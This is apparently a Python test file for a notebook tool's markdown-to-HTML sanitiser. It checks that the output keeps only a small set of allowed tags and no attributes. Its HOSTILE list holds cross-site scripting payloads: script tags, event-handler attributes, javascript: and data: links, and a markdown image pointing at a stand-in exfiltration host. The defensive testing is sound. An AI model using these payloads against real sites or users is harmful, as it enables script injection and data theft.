"""Hostile text as HTML: whatever it says, only our own few tags come out."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyter_crush.notebook.answer import answer_html
from jupyter_crush.notebook.rich_text import code_blocks, to_html

ALLOWED = {"p", "br", "ul", "ol", "li", "pre", "code", "strong", "em", "small", "h3", "h4", "h5", "h6"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<a href='http://evil'>x</a>",
    "`<b>` **<i>** *<u>* # <h1>",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>",
    "- <svg onload=alert(1)>\n1. <iframe src=x>",
    "<!-- --><style>*{}</style>",
    "&lt;script&gt; &#60;script&#62;",
    "[a](b 'c\" onmouseover=alert(1)')",
    "**`**<x>**`**",
]


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: set[str] = set()
        self.attributes: list[object] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def parsed(html: str) -> Tags:
    tags = Tags()
    tags.feed(html)
    tags.close()
    return tags


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text_wherever_the_stream_is_cut(text: str) -> None:
    for place in range(len(text) + 1):
        tags = parsed(answer_html(text[:place], text[:place], text[:place]))
        assert tags.seen <= ALLOWED
        assert tags.attributes == []


@given(st.text(alphabet=st.sampled_from("<>&\"'`*_[]()!#-+1.\n\\ abcjavascript:=/"), max_size=200))
def test_no_text_at_all_makes_other_markup(text: str) -> None:
    tags = parsed(to_html(text))
    assert tags.seen <= ALLOWED
    assert tags.attributes == []


def test_the_usual_markdown_is_shown() -> None:
    html = to_html(
        "# Title\nSome **bold**, *slanted* and `a < b`.\n\n- one\n- two\n\n1. first\n\n```python\nx = 1\n```\nend"
    )
    assert html == (
        "<h3>Title</h3>\n<p>Some <strong>bold</strong>, <em>slanted</em> and <code>a &lt; b</code>.</p>\n"
        "<ul><li>one</li><li>two</li></ul>\n<ol><li>first</li></ol>\n<pre><code>x = 1</code></pre>\n<p>end</p>"
    )


def test_a_link_shows_where_it_leads() -> None:
    assert to_html("[docs](https://a.example/x)") == "<p>docs (https://a.example/x)</p>"


def test_names_with_underscores_are_not_slanted() -> None:
    assert to_html("use read_csv_file and 2*3*4") == "<p>use read_csv_file and 2*3*4</p>"


def test_what_hides_is_written_out() -> None:
    assert to_html("a\u202eb\u200bc\x1b[2Jd\r\ne") == "<p>a⟨U+202E⟩b⟨U+200B⟩c⟨U+001B⟩[2Jd<br>e</p>"
    assert re.search("[\u202e\u200b]", to_html("`\u202e` \u200b")) is None


def test_code_blocks_are_found_with_their_own_fences() -> None:
    text = "a\n```python\nx = '```'\n```\nb\n~~~\ny\n~~~\n````\n```\nz\n```\n````\n```\nopen"
    assert code_blocks(text) == ["x = '```'", "y", "```\nz\n```", "open"]


def test_a_long_text_is_rendered_in_time_that_grows_with_it() -> None:
    for text in ("*" * 20_000, "`" * 5_001 + "x", "[" * 20_000, "- " * 20_000, "**a" * 10_000):
        assert parsed(to_html(text)).seen <= ALLOWED
